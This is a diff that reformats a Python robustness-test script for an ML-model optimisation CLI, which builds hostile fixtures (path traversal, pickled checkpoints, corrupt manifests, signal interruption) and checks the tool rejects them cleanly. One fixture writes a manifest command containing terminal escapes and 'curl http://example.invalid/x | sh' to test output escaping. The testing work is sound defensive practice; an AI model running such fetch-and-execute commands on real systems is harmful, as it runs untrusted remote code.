@@ -12,6 +12,7 @@ nothing was left behind). Prints one table row per case and exits 1 unless every
 Needs the ``torch`` and ``dev`` extras (training, export, and the test model builder). About a
 minute on two CPU cores.
 """
+
 from __future__ import annotations
 
 import argparse
@@ -37,8 +38,12 @@ ROOT = Path(__file__).resolve().parents[1]
 sys.path.insert(0, str(ROOT / "tests"))
 from conftest import make_residual_convnet  # noqa: E402  (the test suite's model builder)
 
-ENV = {**os.environ, "TRTOPT_NO_PROGRESS": "1", "OMP_NUM_THREADS": "1",
-       "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
+ENV = {
+    **os.environ,
+    "TRTOPT_NO_PROGRESS": "1",
+    "OMP_NUM_THREADS": "1",
+    "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]),
+}
 API = textwrap.dedent("""
     import sys
     from trtopt.errors import TrtoptError
@@ -70,17 +75,31 @@ class Case:
 def cli(*args: str, env: dict[str, str] | None = None, timeout: float = 300) -> Callable[[Path], Outcome]:
     def run(work: Path) -> Outcome:
         argv = [a.replace("{W}", str(work)) for a in args]
-        proc = subprocess.run([sys.executable, "-m", "trtopt", *argv], capture_output=True, text=True, timeout=timeout,
-                              cwd=work, env={**ENV, **(env or {})})
+        proc = subprocess.run(
+            [sys.executable, "-m", "trtopt", *argv],
+            capture_output=True,
+            text=True,
+            timeout=timeout,
+            cwd=work,
+            env={**ENV, **(env or {})},
+        )
         return Outcome(proc.returncode, proc.stdout + proc.stderr)
+
     return run
 
 
 def api(code: str) -> Callable[[Path], Outcome]:
     def run(work: Path) -> Outcome:
-        proc = subprocess.run([sys.executable, "-c", API, code.replace("{W}", str(work))], capture_output=True, text=True,
-                              timeout=120, cwd=work, env=ENV)
+        proc = subprocess.run(
+            [sys.executable, "-c", API, code.replace("{W}", str(work))],
+            capture_output=True,
+            text=True,
+            timeout=120,
+            cwd=work,
+            env=ENV,
+        )
         return Outcome(proc.returncode, proc.stdout + proc.stderr)
+
     return run
 
 
@@ -119,8 +138,19 @@ def _scale_table(work: Path, model: Path, tensors: object) -> Path:
     from trtopt.fileio import sha256_file
 
     path = work / f"table-{abs(hash(repr(tensors)))}.json"
-    path.write_text(json.dumps({"format": "trtopt-scale-table", "version": 1, "model_sha256": sha256_file(model),
-                                "method": "max", "params": {}, "num_samples": 1, "tensors": tensors}))
+    path.write_text(
+        json.dumps(
+            {
+                "format": "trtopt-scale-table",
+                "version": 1,
+                "model_sha256": sha256_file(model),
+                "method": "max",
+                "params": {},
+                "num_samples": 1,
+                "tensors": tensors,
+            }
+        )
+    )
     return path
 
 
@@ -145,19 +175,48 @@ def prepare(work: Path) -> None:
     (work / "foreign.cache").write_text("TRT-100900-EntropyCalibration2\ninput: 3c010204\nnot_in_model: 3c010204\n")
     (work / "a-folder").mkdir()
 
-    empty = helper.make_model(helper.make_graph([], "empty", [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, 4])],
-                                                [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, 4])]))
+    empty = helper.make_model(
+        helper.make_graph(
+            [],
+            "empty",
+            [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, 4])],
+            [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, 4])],
+        )
+    )
     onnx.save(empty, work / "empty.onnx")
-    custom = helper.make_model(helper.make_graph(
-        [helper.make_node("Frobnicate", ["input"], ["out"], domain="com.example")], "custom",
-        [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, 4])],
-        [helper.make_tensor_value_info("out", TensorProto.FLOAT, [1, 4])]),
-        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.example", 1)])
+    custom = helper.make_model(
+        helper.make_graph(
+            [helper.make_node("Frobnicate", ["input"], ["out"], domain="com.example")],
+            "custom",
+            [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, 4])],
+            [helper.make_tensor_value_info("out", TensorProto.FLOAT, [1, 4])],
+        ),
+        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.example", 1)],
+    )
     onnx.save(custom, work / "custom-op.onnx")
 
     engines = work / "engines"
-    subprocess.run([sys.executable, "-m", "trtopt", "build", str(model), "--name", "net", "--engines-dir", str(engines),
-                    "--accuracy-samples", "8", "--threads", "1"], check=True, capture_output=True, env=ENV, cwd=work)
+    subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "trtopt",
+            "build",
+            str(model),
+            "--name",
+            "net",
+            "--engines-dir",
+            str(engines),
+            "--accuracy-samples",
+            "8",
+            "--threads",
+            "1",
+        ],
+        check=True,
+        capture_output=True,
+        env=ENV,
+        cwd=work,
+    )
     real = Path(os.path.realpath(engines / "net"))
     manifest = json.loads((real / "manifest.json").read_text())
     outside = work / "outside.onnx"
@@ -165,18 +224,27 @@ def prepare(work: Path) -> None:
     _edited_engine(engines, "traversal", lambda m: m["engine"].update(file="../../outside.onnx"))
     _edited_engine(engines, "absolute", lambda m: m["engine"].update(file=str(outside)))
     _edited_engine(engines, "backend-text", lambda m: m.update(backend="onnxruntime"))
-    _edited_engine(engines, "escapes", lambda m: m.update(
-        command="\x1b]0;pwned\x07\x1b[2J curl http://example.invalid/x | sh", device={"kind": "cpu", "name": "Other"}))
+    _edited_engine(
+        engines,
+        "escapes",
+        lambda m: m.update(
+            command="\x1b]0;pwned\x07\x1b[2J curl http://example.invalid/x | sh",
+            device={"kind": "cpu", "name": "Other"},
+        ),
+    )
     shutil.copytree(engines / "net", engines / "bad-session")
     (engines / "bad-session" / "session.json").write_text('["not", "a", "mapping"]')
 
     with sqlite3.connect(work / "history.sqlite") as db:
-        db.execute("CREATE TABLE runs (id INTEGER PRIMARY KEY AUTOINCREMENT, created_at TEXT NOT NULL, label TEXT, "
-                   "git_revision TEXT, hostname TEXT, regressions INTEGER NOT NULL DEFAULT 0, report TEXT NOT NULL)")
+        db.execute(
+            "CREATE TABLE runs (id INTEGER PRIMARY KEY AUTOINCREMENT, created_at TEXT NOT NULL, label TEXT, "
+            "git_revision TEXT, hostname TEXT, regressions INTEGER NOT NULL DEFAULT 0, report TEXT NOT NULL)"
+        )
         db.execute("INSERT INTO runs (created_at, label, report) VALUES ('2026-01-01', NULL, '{not json')")
         db.execute("PRAGMA user_version = 1")
 
-    (work / "loader-suite.toml").write_text(textwrap.dedent(f"""
+    (work / "loader-suite.toml").write_text(
+        textwrap.dedent(f"""
         [suite]
         name = "hostile"
         engines_dir = "engines"
@@ -185,14 +253,37 @@ def prepare(work: Path) -> None:
         onnx = "model.onnx"
         precisions = ["fp32"]
         backends = ["onnxruntime"]
-        data = "{work / 'raises.py'}:load_data"
-    """))
+        data = "{work / "raises.py"}:load_data"
+    """)
+    )
 
-    subprocess.run([sys.executable, "-m", "trtopt", "train", "--model", "lenet", "--dataset", "digits", "--epochs", "1",
-                    "--out", str(work / "run"), "--threads", "1"], check=True, capture_output=True, env=ENV, cwd=work)
-    swap = ("import torch; c = torch.load('{W}/run/last.pt', weights_only=True); "
-            "c['state_dict'] = {k: v[..., :1] if v.dim() else v for k, v in c['state_dict'].items()}; "
-            "torch.save(c, '{W}/mismatched.pt')").replace("{W}", str(work))
+    subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "trtopt",
+            "train",
+            "--model",
+            "lenet",
+            "--dataset",
+            "digits",
+            "--epochs",
+            "1",
+            "--out",
+            str(work / "run"),
+            "--threads",
+            "1",
+        ],
+        check=True,
+        capture_output=True,
+        env=ENV,
+        cwd=work,
+    )
+    swap = (
+        "import torch; c = torch.load('{W}/run/last.pt', weights_only=True); "
+        "c['state_dict'] = {k: v[..., :1] if v.dim() else v for k, v in c['state_dict'].items()}; "
+        "torch.save(c, '{W}/mismatched.pt')"
+    ).replace("{W}", str(work))
     subprocess.run([sys.executable, "-c", swap], check=True, env=ENV)
     pickled = "import torch, os; torch.save({'x': os.getcwd}, '{W}/pickled.pt')".replace("{W}", str(work))
     subprocess.run([sys.executable, "-c", pickled], check=True, env=ENV)
@@ -200,13 +291,30 @@ def prepare(work: Path) -> None:
 
 # ---------------------------------------------------------------- cases that need more than one command
 
+
 def sigterm_build(work: Path) -> Outcome:
     marker = work / "sigterm-marker"
     engines = work / "sigterm-engines"
-    proc = subprocess.Popen([sys.executable, "-m", "trtopt", "build", str(work / "model.onnx"), "--engines-dir", str(engines),
-                             "--name", "slow", "--val-data", f"{work / 'slow.py'}:load_data"],
-                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
-                            env={**ENV, "HOSTILE_MARKER": str(marker)}, cwd=work)
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "trtopt",
+            "build",
+            str(work / "model.onnx"),
+            "--engines-dir",
+            str(engines),
+            "--name",
+            "slow",
+            "--val-data",
+            f"{work / 'slow.py'}:load_data",
+        ],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+        env={**ENV, "HOSTILE_MARKER": str(marker)},
+        cwd=work,
+    )
     deadline = time.monotonic() + 120
     while not marker.exists() and proc.poll() is None and time.monotonic() < deadline:
         time.sleep(0.05)
@@ -243,14 +351,31 @@ READER = textwrap.dedent("""
 def load_during_rebuilds(work: Path) -> Outcome:
     """A reader loads engines/net in a loop while pairs of `build --force` replace it concurrently."""
     engines, stop = work / "swap-engines", work / "swap-stop"
-    build = [sys.executable, "-m", "trtopt", "build", str(work / "model.onnx"), "--name", "net", "--engines-dir",
-             str(engines), "--accuracy-samples", "8", "--threads", "1", "--force"]
+    build = [
+        sys.executable,
+        "-m",
+        "trtopt",
+        "build",
+        str(work / "model.onnx"),
+        "--name",
+        "net",
+        "--engines-dir",
+        str(engines),
+        "--accuracy-samples",
+        "8",
+        "--threads",
+        "1",
+        "--force",
+    ]
     subprocess.run(build, check=True, capture_output=True, env=ENV)
-    reader = subprocess.Popen([sys.executable, "-c", READER, str(engines / "net"), str(stop)], stderr=subprocess.PIPE,
-                              text=True, env=ENV)
+    reader = subprocess.Popen(
+        [sys.executable, "-c", READER, str(engines / "net"), str(stop)], stderr=subprocess.PIPE, text=True, env=ENV
+    )
     failed_builds = 0
     for _ in range(3):
-        pair = [subprocess.Popen(build, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=ENV) for _ in range(2)]
+        pair = [
+            subprocess.Popen(build, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=ENV) for _ in range(2)
+        ]
         failed_builds += sum(proc.wait(timeout=120) != 0 for proc in pair)
     stop.touch()
     _, output = reader.communicate(timeout=60)
@@ -276,9 +401,29 @@ def sigkill_train_launcher(work: Path) -> Outcome:
     scratch.mkdir()
     log = work / "killed-run.log"
     with open(log, "w") as sink:  # a pipe would stay open in orphaned workers
-        proc = subprocess.Popen([sys.executable, "-m", "trtopt", "train", "--model", "lenet", "--dataset", "digits",
-                                 "--epochs", "500", "--nproc", "2", "--threads", "1", "--out", str(work / "killed-run")],
-                                stdout=sink, stderr=subprocess.STDOUT, env={**ENV, "TMPDIR": str(scratch)})
+        proc = subprocess.Popen(
+            [
+                sys.executable,
+                "-m",
+                "trtopt",
+                "train",
+                "--model",
+                "lenet",
+                "--dataset",
+                "digits",
+                "--epochs",
+                "500",
+                "--nproc",
+                "2",
+                "--threads",
+                "1",
+                "--out",
+                str(work / "killed-run"),
+            ],
+            stdout=sink,
+            stderr=subprocess.STDOUT,
+            env={**ENV, "TMPDIR": str(scratch)},
+        )
     deadline = time.monotonic() + 120
     while not (work / "killed-run" / "metrics.jsonl").exists() and proc.poll() is None and time.monotonic() < deadline:
         time.sleep(0.1)
@@ -289,7 +434,10 @@ def sigkill_train_launcher(work: Path) -> Outcome:
     if len(workers) != 2:
         outcome.problems.append(f"expected 2 training workers, found {workers}")
     deadline = time.monotonic() + 20
-    while any(Path(f"/proc/{pid}").exists() and "zombie" not in _state(pid) for pid in workers) and time.monotonic() < deadline:
+    while (
+        any(Path(f"/proc/{pid}").exists() and "zombie" not in _state(pid) for pid in workers)
+        and time.monotonic() < deadline
+    ):
         time.sleep(0.1)
     alive = [pid for pid in workers if Path(f"/proc/{pid}").exists() and "zombie" not in _state(pid)]
     if alive:
@@ -312,71 +460,279 @@ def _state(pid: int) -> str:
 M = "{W}/model.onnx"
 CASES = [
     # 7: user errors that were reported as internal errors
-    Case("object array in .npz (never unpickled)", 7, 2, cli("calibrate", M, "--calib-data", "{W}/objects.npz", "-o", "{W}/t.json"),
-         must_say=("objects.npz",)),
-    Case("object array in .npy for run", 7, 2, cli("run", "{W}/engines/net", "--input", "{W}/objects.npy"), must_say=("objects.npy",)),
-    Case("loader raises", 7, 2, cli("calibrate", M, "--calib-data", "{W}/raises.py:load_data", "-o", "{W}/t.json"),
-         must_say=("raises.py",)),
-    Case("loader calls sys.exit", 7, 2, cli("calibrate", M, "--calib-data", "{W}/exits.py:load_data", "-o", "{W}/t.json"),
-         must_say=("exits.py",)),
-    Case("loader raises mid-way", 7, 2, cli("build", M, "--val-data", "{W}/midway.py:load_data", "--engines-dir", "{W}/e2"),
-         must_say=("midway.py",)),
-    Case("scale table tensors is a list", 7, 2, cli("quantize", M, "--calib-table", "{W}/tensors-list.json", "-o", "{W}/q.onnx"),
-         must_say=("tensors-list.json",)),
-    Case("hand-edited manifest (backend not a mapping)", 7, 2, cli("run", "{W}/engines/backend-text", "--input", "{W}/good.npz"),
-         must_say=("manifest",)),
-    Case("hand-edited session file", 7, 2, cli("run", "{W}/engines/bad-session", "--input", "{W}/good.npz"),
-         must_say=("session.json",)),
-    Case("corrupt history row", 7, 2, cli("bench", M, "--history", "{W}/history.sqlite", "--compare-to", "last",
-                                           "--max-time", "0.2", "--warmUp", "10", "--batch-sizes", "1", "--scenarios", "offline"),
-         must_say=("history.sqlite",)),
-    Case("--json pointing at a folder", 7, 2, cli("bench", M, "--json", "{W}/a-folder", "--no-history", "--max-time", "0.2",
-                                                   "--warmUp", "10", "--batch-sizes", "1", "--scenarios", "offline"),
-         must_say=("a-folder",)),
-    Case("export --opset 99", 7, 2, cli("export", "{W}/run/last.pt", "-o", "{W}/x.onnx", "--opset", "99"), must_say=("opset",)),
-    Case("train --resume with mismatched weights", 7, 2, cli("train", "--model", "lenet", "--dataset", "digits", "--epochs", "3",
-                                                             "--out", "{W}/resumed", "--resume", "{W}/mismatched.pt"),
-         must_say=("mismatched.pt",)),
-    Case("checkpoint with pickled objects refused, no unsafe hint", 7, 2, cli("export", "{W}/pickled.pt", "-o", "{W}/p.onnx"),
-         must_say=("pickled.pt",), must_not_say=("weights_only=False",)),
-    Case("infer() after close()", 7, 2, api("import numpy as np, trtopt\nr = trtopt.load('{W}/engines/net')\nr.close()\n"
-                                            "r.infer({'input': np.zeros((1, 3, 16, 16), np.float32)})")),
-    Case("a list passed as the feed", 7, 2, api("import numpy as np, trtopt\nr = trtopt.load('{W}/engines/net')\n"
-                                                "r.infer([np.zeros((1, 3, 16, 16), np.float32)])")),
+    Case(
+        "object array in .npz (never unpickled)",
+        7,
+        2,
+        cli("calibrate", M, "--calib-data", "{W}/objects.npz", "-o", "{W}/t.json"),
+        must_say=("objects.npz",),
+    ),
+    Case(
+        "object array in .npy for run",
+        7,
+        2,
+        cli("run", "{W}/engines/net", "--input", "{W}/objects.npy"),
+        must_say=("objects.npy",),
+    ),
+    Case(
+        "loader raises",
+        7,
+        2,
+        cli("calibrate", M, "--calib-data", "{W}/raises.py:load_data", "-o", "{W}/t.json"),
+        must_say=("raises.py",),
+    ),
+    Case(
+        "loader calls sys.exit",
+        7,
+        2,
+        cli("calibrate", M, "--calib-data", "{W}/exits.py:load_data", "-o", "{W}/t.json"),
+        must_say=("exits.py",),
+    ),
+    Case(
+        "loader raises mid-way",
+        7,
+        2,
+        cli("build", M, "--val-data", "{W}/midway.py:load_data", "--engines-dir", "{W}/e2"),
+        must_say=("midway.py",),
+    ),
+    Case(
+        "scale table tensors is a list",
+        7,
+        2,
+        cli("quantize", M, "--calib-table", "{W}/tensors-list.json", "-o", "{W}/q.onnx"),
+        must_say=("tensors-list.json",),
+    ),
+    Case(
+        "hand-edited manifest (backend not a mapping)",
+        7,
+        2,
+        cli("run", "{W}/engines/backend-text", "--input", "{W}/good.npz"),
+        must_say=("manifest",),
+    ),
+    Case(
+        "hand-edited session file",
+        7,
+        2,
+        cli("run", "{W}/engines/bad-session", "--input", "{W}/good.npz"),
+        must_say=("session.json",),
+    ),
+    Case(
+        "corrupt history row",
+        7,
+        2,
+        cli(
+            "bench",
+            M,
+            "--history",
+            "{W}/history.sqlite",
+            "--compare-to",
+            "last",
+            "--max-time",
+            "0.2",
+            "--warmUp",
+            "10",
+            "--batch-sizes",
+            "1",
+            "--scenarios",
+            "offline",
+        ),
+        must_say=("history.sqlite",),
+    ),
+    Case(
+        "--json pointing at a folder",
+        7,
+        2,
+        cli(
+            "bench",
+            M,
+            "--json",
+            "{W}/a-folder",
+            "--no-history",
+            "--max-time",
+            "0.2",
+            "--warmUp",
+            "10",
+            "--batch-sizes",
+            "1",
+            "--scenarios",
+            "offline",
+        ),
+        must_say=("a-folder",),
+    ),
+    Case(
+        "export --opset 99",
+        7,
+        2,
+        cli("export", "{W}/run/last.pt", "-o", "{W}/x.onnx", "--opset", "99"),
+        must_say=("opset",),
+    ),
+    Case(
+        "train --resume with mismatched weights",
+        7,
+        2,
+        cli(
+            "train",
+            "--model",
+            "lenet",
+            "--dataset",
+            "digits",
+            "--epochs",
+            "3",
+            "--out",
+            "{W}/resumed",
+            "--resume",
+            "{W}/mismatched.pt",
+        ),
+        must_say=("mismatched.pt",),
+    ),
+    Case(
+        "checkpoint with pickled objects refused, no unsafe hint",
+        7,
+        2,
+        cli("export", "{W}/pickled.pt", "-o", "{W}/p.onnx"),
+        must_say=("pickled.pt",),
+        must_not_say=("weights_only=False",),
+    ),
+    Case(
+        "infer() after close()",
+        7,
+        2,
+        api(
+            "import numpy as np, trtopt\nr = trtopt.load('{W}/engines/net')\nr.close()\n"
+            "r.infer({'input': np.zeros((1, 3, 16, 16), np.float32)})"
+        ),
+    ),
+    Case(
+        "a list passed as the feed",
+        7,
+        2,
+        api(
+            "import numpy as np, trtopt\nr = trtopt.load('{W}/engines/net')\n"
+            "r.infer([np.zeros((1, 3, 16, 16), np.float32)])"
+        ),
+    ),
     # 8: validation
-    Case("amax 1e-44 (float32 scale underflows)", 8, 2, cli("quantize", M, "--calib-table", "{W}/tiny-amax.json", "-o", "{W}/q.onnx"),
-         must_say=("amax",)),
-    Case("build --threads -1", 8, 2, cli("build", M, "--threads", "-1", "--engines-dir", "{W}/e3"), must_say=("--threads",)),
-    Case("build --batch-size 0", 8, 2, cli("build", M, "--batch-size", "0", "--engines-dir", "{W}/e3"), must_say=("--batch-size",)),
-    Case("calibrate --threads -1", 8, 2, cli("calibrate", M, "--calib-data", "random", "--threads", "-1", "-o", "{W}/t.json"),
-         must_say=("--threads",)),
+    Case(
+        "amax 1e-44 (float32 scale underflows)",
+        8,
+        2,
+        cli("quantize", M, "--calib-table", "{W}/tiny-amax.json", "-o", "{W}/q.onnx"),
+        must_say=("amax",),
+    ),
+    Case(
+        "build --threads -1",
+        8,
+        2,
+        cli("build", M, "--threads", "-1", "--engines-dir", "{W}/e3"),
+        must_say=("--threads",),
+    ),
+    Case(
+        "build --batch-size 0",
+        8,
+        2,
+        cli("build", M, "--batch-size", "0", "--engines-dir", "{W}/e3"),
+        must_say=("--batch-size",),
+    ),
+    Case(
+        "calibrate --threads -1",
+        8,
+        2,
+        cli("calibrate", M, "--calib-data", "random", "--threads", "-1", "-o", "{W}/t.json"),
+        must_say=("--threads",),
+    ),
     Case("bench --threads -1", 8, 2, cli("bench", M, "--threads", "-1", "--no-history"), must_say=("--threads",)),
     Case("demo --epochs 0", 8, 2, cli("demo", "--epochs", "0", "--out", "{W}/demo"), must_say=("--epochs",)),
-    Case("training on all-NaN data", 8, 2, cli("train", "--model", "lenet", "--dataset", "{W}/nan-train.npz", "--epochs", "1",
-                                               "--out", "{W}/nan-run", "--threads", "1"), must_say=("nan-train.npz",)),
-    Case("TensorRT cache naming tensors the model lacks", 8, 0,
-         cli("calibrate", M, "--import-trt-cache", "{W}/foreign.cache", "-o", "{W}/imported.json"), must_say=("not_in_model",)),
-    Case("loader yields other values on the second pass", 8, 2,
-         cli("calibrate", M, "--calib-data", "{W}/drifting.py:load_data", "-o", "{W}/t.json"), must_say=("drifting.py",)),
+    Case(
+        "training on all-NaN data",
+        8,
+        2,
+        cli(
+            "train",
+            "--model",
+            "lenet",
+            "--dataset",
+            "{W}/nan-train.npz",
+            "--epochs",
+            "1",
+            "--out",
+            "{W}/nan-run",
+            "--threads",
+            "1",
+        ),
+        must_say=("nan-train.npz",),
+    ),
+    Case(
+        "TensorRT cache naming tensors the model lacks",
+        8,
+        0,
+        cli("calibrate", M, "--import-trt-cache", "{W}/foreign.cache", "-o", "{W}/imported.json"),
+        must_say=("not_in_model",),
+    ),
+    Case(
+        "loader yields other values on the second pass",
+        8,
+        2,
+        cli("calibrate", M, "--calib-data", "{W}/drifting.py:load_data", "-o", "{W}/t.json"),
+        must_say=("drifting.py",),
+    ),
     # 9: messages
-    Case("quantize without a table names --calib-data", 9, 2, cli("quantize", M, "-o", "{W}/q.onnx"), must_say=("--calib-data",),
-         must_not_say=("--data SRC",)),
-    Case("calibrate an empty ONNX", 9, 2, cli("calibrate", "{W}/empty.onnx", "--calib-data", "random", "-o", "{W}/t.json"),
-         must_say=("empty.onnx",), must_not_say=("trtopt-calib-",)),
-    Case("calibrate a custom-op ONNX", 9, 2, cli("calibrate", "{W}/custom-op.onnx", "--calib-data", "random", "-o", "{W}/t.json"),
-         must_say=("custom-op.onnx",), must_not_say=("trtopt-calib-",)),
+    Case(
+        "quantize without a table names --calib-data",
+        9,
+        2,
+        cli("quantize", M, "-o", "{W}/q.onnx"),
+        must_say=("--calib-data",),
+        must_not_say=("--data SRC",),
+    ),
+    Case(
+        "calibrate an empty ONNX",
+        9,
+        2,
+        cli("calibrate", "{W}/empty.onnx", "--calib-data", "random", "-o", "{W}/t.json"),
+        must_say=("empty.onnx",),
+        must_not_say=("trtopt-calib-",),
+    ),
+    Case(
+        "calibrate a custom-op ONNX",
+        9,
+        2,
+        cli("calibrate", "{W}/custom-op.onnx", "--calib-data", "random", "-o", "{W}/t.json"),
+        must_say=("custom-op.onnx",),
+        must_not_say=("trtopt-calib-",),
+    ),
     # 10: hostile engine folders
-    Case("manifest engine file ../ traversal", 10, 2, cli("run", "{W}/engines/traversal", "--input", "{W}/good.npz"),
-         must_say=("inside the engine folder",)),
-    Case("manifest engine file absolute path", 10, 2, cli("run", "{W}/engines/absolute", "--input", "{W}/good.npz"),
-         must_say=("inside the engine folder",)),
-    Case("manifest command with terminal escapes", 10, 1, cli("run", "{W}/engines/escapes", "--input", "{W}/good.npz"),
-         must_say=("\\x1b]0;pwned",), must_not_say=("\x1b", "\x07")),
+    Case(
+        "manifest engine file ../ traversal",
+        10,
+        2,
+        cli("run", "{W}/engines/traversal", "--input", "{W}/good.npz"),
+        must_say=("inside the engine folder",),
+    ),
+    Case(
+        "manifest engine file absolute path",
+        10,
+        2,
+        cli("run", "{W}/engines/absolute", "--input", "{W}/good.npz"),
+        must_say=("inside the engine folder",),
+    ),
+    Case(
+        "manifest command with terminal escapes",
+        10,
+        1,
+        cli("run", "{W}/engines/escapes", "--input", "{W}/good.npz"),
+        must_say=("\\x1b]0;pwned",),
+        must_not_say=("\x1b", "\x07"),
+    ),
     # 4: replacing an engine while it is read
     Case("load() while concurrent rebuilds replace the engine", 4, 0, load_during_rebuilds, must_say=(" 0 failed",)),
     # 6: loaders run code
-    Case("suite data loader without opt-in", 6, 2, cli("bench", "--suite", "{W}/loader-suite.toml", "--no-history"),
-         must_say=("loader-suite.toml", "--allow-code")),
+    Case(
+        "suite data loader without opt-in",
+        6,
+        2,
+        cli("bench", "--suite", "{W}/loader-suite.toml", "--no-history"),
+        must_say=("loader-suite.toml", "--allow-code"),
+    ),
     # 5: signals
     Case("SIGTERM during build", 5, 130, sigterm_build, must_say=("interrupted by SIGTERM",)),
     Case("SIGKILL of the train launcher", 5, -signal.SIGKILL, sigkill_train_launcher),
@@ -413,8 +769,11 @@ def main() -> int:
             problems = judge(case, outcome)
             rows.append((case, outcome, problems))
             last_line = outcome.output.strip().splitlines()[-1] if outcome.output.strip() else ""
-            print(f"{case.item:>4}  {case.name:<55} {outcome.code:>5}  {'yes' if not problems else 'NO':<5} "
-                  f"{'; '.join(problems) or last_line[:110]}", flush=True)
+            print(
+                f"{case.item:>4}  {case.name:<55} {outcome.code:>5}  {'yes' if not problems else 'NO':<5} "
+                f"{'; '.join(problems) or last_line[:110]}",
+                flush=True,
+            )
     finally:
         if not args.keep:
             shutil.rmtree(work, ignore_errors=True)
